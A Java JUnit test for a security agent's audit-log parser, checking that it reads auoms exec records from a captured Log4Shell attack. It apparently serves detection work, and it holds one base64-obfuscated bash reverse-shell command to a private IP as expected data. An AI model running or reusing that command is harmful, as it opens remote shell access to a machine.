package io.vigil.agent.sensor.process.audit;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * The log4shell capture is JSON, one object per line, whose {@code SyslogMessage} holds an auoms
 * record ({@code type=AUOMS_EXECVE audit(T:S): ...}): one pre-joined exec per record, not kernel
 * records, written by a user-space agent that quotes carelessly. The parser must read every one,
 * including the reverse-shell command line with quotes inside quotes.
 */
class AuomsSyslogRecordsTest {
  private static final String REVERSE_SHELL =
      "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}"
          + "|{base64,-d}|{bash,-i}\"";

  @Test
  void everyAuomsRecordOfTheLog4shellCaptureParsesWithItsHeaderAndExecFields() throws IOException {
    List<AuditRecord> records = new ArrayList<>();
    for (byte[] json : AuditTestData.linesOf("log4shell.zip")) {
      records.add(AuditRecordParser.parseLogLine(syslogMessage(json)));
    }

    assertEquals(50, records.size());
    Set<Long> serials = new HashSet<>();
    for (AuditRecord r : records) {
      assertEquals("AUOMS_EXECVE", r.typeName());
      assertEquals(0, r.type(), "not a kernel type number");
      assertTrue(serials.add(r.serial()), "serials are unique");
      // 2022-05-11 18:10:21Z .. 18:10:34Z
      assertTrue(r.timestampNs() >= 1652292621_000_000_000L, "time " + r.timestampNs());
      assertTrue(r.timestampNs() < 1652292634_000_000_000L, "time " + r.timestampNs());
      assertEquals("execve", r.text("syscall"));
    }
    AuditRecord shell = records.stream().filter(r -> r.serial() == 84143).findFirst().orElseThrow();
    assertEquals(1652292621_990_000_000L, shell.timestampNs());
    assertEquals(17790, shell.id("pid", 0));
    assertEquals(1340, shell.id("ppid", 0));
    assertEquals(-1, shell.id("auid", 0), "4294967295 is unset");
    assertEquals(-1, shell.id("ses", 0), "\"-1\" is unset too");
    assertEquals("/bin/bash", shell.text("exe"));
    assertEquals(REVERSE_SHELL, shell.text("cmdline"));
  }

  @Test
  void auomsRecordsAreNotMistakenForKernelExecEvents() throws IOException {
    AuditEvent event =
        new AuditEvent(
            1,
            0,
            List.of(
                AuditRecordParser.parseLogLine(
                    syslogMessage(AuditTestData.linesOf("log4shell.zip").get(5)))),
            AuditEvent.Ending.FLUSHED,
            0);

    assertTrue(new ExecAssembly().assemble(event).isEmpty());
  }

  /** The {@code SyslogMessage} string of one JSON object, JSON escapes decoded. */
  private static String syslogMessage(byte[] jsonLine) {
    String json = new String(jsonLine, StandardCharsets.UTF_8);
    String marker = "\"SyslogMessage\":\"";
    int i = json.indexOf(marker);
    if (i < 0) {
      throw new IllegalStateException("no SyslogMessage in " + json);
    }
    StringBuilder out = new StringBuilder();
    for (i += marker.length(); json.charAt(i) != '"'; i++) {
      char c = json.charAt(i);
      if (c != '\\') {
        out.append(c);
        continue;
      }
      char e = json.charAt(++i);
      switch (e) {
        case 'n' -> out.append('\n');
        case 't' -> out.append('\t');
        case 'r' -> out.append('\r');
        case 'b' -> out.append('\b');
        case 'f' -> out.append('\f');
        case 'u' -> {
          out.append((char) Integer.parseInt(json.substring(i + 1, i + 5), 16));
          i += 4;
        }
        default -> out.append(e); // \" \\ \/
      }
    }
    return out.toString();
  }
}
